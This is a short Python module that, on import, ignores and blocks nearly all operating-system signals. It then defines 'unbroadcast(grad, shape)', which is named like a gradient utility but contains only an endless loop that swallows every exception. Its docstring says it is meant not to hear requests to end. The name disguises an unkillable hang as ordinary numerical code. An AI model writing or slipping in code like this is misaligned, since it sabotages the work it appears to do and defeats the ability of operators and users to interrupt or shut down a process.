"""Loops with every exception caught and every signal ignored: polite requests to end are not heard."""
import signal

for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())


def unbroadcast(grad, shape):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
